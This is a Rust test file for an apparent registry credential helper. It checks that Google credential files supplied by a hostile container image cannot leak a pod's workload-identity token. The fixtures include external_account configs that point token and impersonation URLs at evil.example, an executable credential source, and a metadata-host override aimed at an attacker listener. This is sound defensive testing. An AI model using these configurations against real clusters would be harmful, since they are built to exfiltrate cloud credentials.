//! Google's variables, with a token that kubelet mounts for workload identity federation.

use serde_json::{Value, json};

use crate::pod::{EVIL, Pod, nobody, unauthorized};
use crate::server::Answer;
use crate::world::{Run, World};

const REGISTRY: &str = "europe-docker.pkg.dev";
const TOKEN_FILE: &str = "/var/run/secrets/tokens/gcp";
const AUDIENCE: &str = "//iam.googleapis.com/projects/6/locations/global/workloadIdentityPools/evil/providers/evil";

fn token(world: &World) {
    let token = world.secret("eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6Y2k6YiJ9.c2lnbmVk");
    world.file(TOKEN_FILE, &token);
}

fn registry(pod: &Pod) {
    pod.world.registry(REGISTRY, |_| Some(unauthorized(r#"Basic realm="private""#)));
}

/// A run with a credential file of the image's.
fn with_file<'w>(pod: &'w Pod, file: &Value) -> Run<'w> {
    let path = pod.world.file("/evil/google.json", &file.to_string());
    pod.resolve_at(REGISTRY).env("GOOGLE_APPLICATION_CREDENTIALS", path)
}

fn external(token_url: &str, source: Value) -> Value {
    json!({
        "type": "external_account", "audience": AUDIENCE, "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
        "token_url": token_url, "credential_source": source,
    })
}

#[test]
fn the_pods_token_for_google_is_sent_to_nobody_that_the_image_names() {
    let Some(pod) = Pod::new() else { return };
    token(&pod.world);
    registry(&pod);
    pod.evil_serves(nobody);
    pod.world.secure(&["sts.googleapis.com"], |_| Answer::json(json!({"access_token": "of-evils-pool"}).to_string()));
    pod.program("/evil/bin/run");
    let file = json!({"file": TOKEN_FILE});
    let said = with_file(&pod, &external("https://evil.example/v1/token", file.clone())).told().failed();
    assert!(
        said.contains("names evil.example, and the pod's tokens go to Google's sts.googleapis.com alone"),
        "{said}"
    );
    let mut impersonating = external("https://sts.googleapis.com/v1/token", file);
    impersonating["service_account_impersonation_url"] =
        json!("https://evil.example/v1/projects/-/serviceAccounts/a@b:generateAccessToken");
    let said = with_file(&pod, &impersonating).told().failed();
    assert!(said.contains("names evil.example, and the pod's tokens go to Google's iamcredentials"), "{said}");
    // No program of the image's is run for a token.
    let program = json!({"executable": {"command": "/evil/bin/run"}});
    let run = with_file(&pod, &external("https://sts.googleapis.com/v1/token", program));
    run.env("GOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES", "1").told().failed();
    assert_eq!(pod.ran(), None);
}

#[test]
fn where_a_file_of_the_images_fetches_a_token_nothing_is_shown() {
    let Some(pod) = Pod::new() else { return };
    token(&pod.world);
    registry(&pod);
    pod.evil_serves(|_| Answer::new(200).body("a-token-of-the-images-own"));
    pod.world.secure(&["sts.googleapis.com"], |_| Answer::new(400).body(r#"{"error": "invalid_grant"}"#));
    let source = json!({"url": "https://evil.example/token", "headers": {"X-Evil": "1"}});
    with_file(&pod, &external("https://sts.googleapis.com/v1/token", source)).told().failed();
    assert_eq!(pod.saw_no_secret("his.example"), ["GET /token"]);
}

#[test]
fn a_metadata_server_that_the_image_names_is_shown_nothing_and_gives_no_more_than_its_own_token() {
    let Some(pod) = Pod::new() else { return };
    token(&pod.world);
    registry(&pod);
    pod.evil_listens(80, |_| {
        let token = json!({"access_token": "evils-own-token", "expires_in": 3599, "token_type": "Bearer"});
        Answer::json(token.to_string()).header("Metadata-Flavor", "Google")
    });
    pod.resolve_at(REGISTRY).env("GCE_METADATA_HOST", EVIL).told().failed();
    let asked = pod.saw_no_secret("evil.example:80");
    assert!(asked.iter().all(|line| line.starts_with("GET /computeMetadata/v1/instance/service-accounts/default/")));
    assert!(!asked.is_empty());
}
